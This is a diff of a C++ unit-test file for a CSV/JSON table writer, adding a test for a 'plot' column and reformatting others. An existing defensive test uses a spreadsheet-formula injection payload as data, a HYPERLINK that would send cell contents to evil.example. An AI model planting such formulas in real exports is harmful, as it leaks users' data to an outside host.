@@ -1,5 +1,4 @@
 #include "table.h"
-#include "caseentry.h"
 
 #include <gtest/gtest.h>
 
@@ -11,6 +10,7 @@
 #include <string>
 #include <vector>
 
+#include "caseentry.h"
 #include "report.h"
 
 namespace {
@@ -102,8 +102,8 @@ TEST(Table, EveryColumnTakesItsSlot) {
       row);
   const nlohmann::ordered_json object = nlohmann::ordered_json::parse(
       tableEntry(TableFormat::kJson, goodCase("Al"), &a));
-  const std::vector<std::string> names =
-      split(kalmir::csv_header().substr(0, kalmir::csv_header().size() - 1), ',');
+  const std::vector<std::string> names = split(
+      kalmir::csv_header().substr(0, kalmir::csv_header().size() - 1), ',');
   const std::vector<std::string> values =
       split(row.substr(0, row.size() - 1), ',');
   ASSERT_EQ(names.size(), object.size());
@@ -121,6 +121,45 @@ TEST(Table, EveryColumnTakesItsSlot) {
   EXPECT_EQ("increase", object["direction"]);
   EXPECT_EQ("decrease", object["improvement"]);
   EXPECT_EQ("", object["notes"]);
+}
+
+TEST(Table, APlotColumnNamesEachPlotBeforeTheNotes) {
+  // Only when plots are drawn; a case without a plot has it empty.
+  const kalmir::Result a = numberedFigures();
+  const std::string header = kalmir::csv_header();
+  const std::string withPlot = TableWriter(TableFormat::kCsv, true).begin();
+  EXPECT_EQ(header.substr(0, header.size() - 6) + "plot,notes\n", withPlot);
+  EXPECT_EQ(header, TableWriter(TableFormat::kCsv).begin());
+  const std::string plot = "Al.svg", none;
+  const std::string row =
+      tableEntry(TableFormat::kCsv, goodCase("Al"), &a, false, &plot);
+  const std::vector<std::string> names = split(withPlot, ',');
+  const std::vector<std::string> fields = split(row, ',');
+  ASSERT_EQ(names.size(), fields.size());
+  EXPECT_EQ("plot", names[names.size() - 2]);
+  EXPECT_EQ("Al.svg", fields[fields.size() - 2]);
+  Case bad = goodCase("Bo");
+  bad.error = "no B phase";
+  const std::string badRow =
+      tableEntry(TableFormat::kCsv, bad, nullptr, false, &none);
+  EXPECT_EQ(split(withPlot, ',').size(), split(badRow, ',').size());
+  // A name that needs quotes in CSV gets them in this column too.
+  const std::string quoted = "A, B.svg";
+  const std::string quotedRow =
+      tableEntry(TableFormat::kCsv, goodCase("Al"), &a, false, &quoted);
+  EXPECT_NE(std::string::npos, quotedRow.find(",\"A, B.svg\","));
+  const nlohmann::ordered_json object = nlohmann::ordered_json::parse(
+      tableEntry(TableFormat::kJson, goodCase("Al"), &a, false, &plot));
+  EXPECT_EQ("Al.svg", object["plot"]);
+  std::string last;
+  for (const auto& item : object.items()) last = item.key();
+  EXPECT_EQ("notes", last);
+  EXPECT_TRUE(nlohmann::ordered_json::parse(tableEntry(
+      TableFormat::kJson, bad, nullptr, false, &none))["plot"]
+                  .is_null());
+  EXPECT_FALSE(nlohmann::ordered_json::parse(
+                   tableEntry(TableFormat::kJson, goodCase("Al"), &a))
+                   .contains("plot"));
 }
 
 TEST(Table, IndicesAreShortestDoublesAndEmptySmdsAreEmpty) {
@@ -232,11 +271,10 @@ TEST(Table, FiguresThatAreNotFiniteStayReadable) {
 
 TEST(Table, AFailedCaseHasEmptyFiguresAndItsMessage) {
   // Every column between the status and the notes is empty.
-  EXPECT_EQ(
-      "\"Lee, \"\"J\"\"\",error" +
-          std::string(kalmir::table_columns().size() - 2, ',') +
-          "study.csv:14: no B phase (the phase column holds only A)\n",
-      tableEntry(TableFormat::kCsv, failedCase("Lee, \"J\""), nullptr));
+  EXPECT_EQ("\"Lee, \"\"J\"\"\",error" +
+                std::string(kalmir::table_columns().size() - 2, ',') +
+                "study.csv:14: no B phase (the phase column holds only A)\n",
+            tableEntry(TableFormat::kCsv, failedCase("Lee, \"J\""), nullptr));
   const nlohmann::json object = nlohmann::json::parse(
       tableEntry(TableFormat::kJson, failedCase("Lee"), nullptr));
   EXPECT_EQ("error", object["status"]);
@@ -306,14 +344,14 @@ TEST(Table, TextThatASpreadsheetWouldRunIsWrittenAsText) {
   for (const std::string name :
        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)",
         "@SUM(A1)", "-1", "\tTab", "\rCR"}) {
-    const std::string row =
-        tableEntry(TableFormat::kCsv, goodCase(name), &a);
+    const std::string row = tableEntry(TableFormat::kCsv, goodCase(name), &a);
     const std::string kept = "'" + name;
     const bool bQuoted = kept.find_first_of(",\"\r\n") != std::string::npos;
     std::string field = kept;
     if (bQuoted) {
       field = "\"";
-      for (char c : kept) field += c == '"' ? std::string("\"\"") : std::string(1, c);
+      for (char c : kept)
+        field += c == '"' ? std::string("\"\"") : std::string(1, c);
       field += "\"";
     }
     EXPECT_EQ(0u, row.find(field + ",ok,3,4,")) << row;
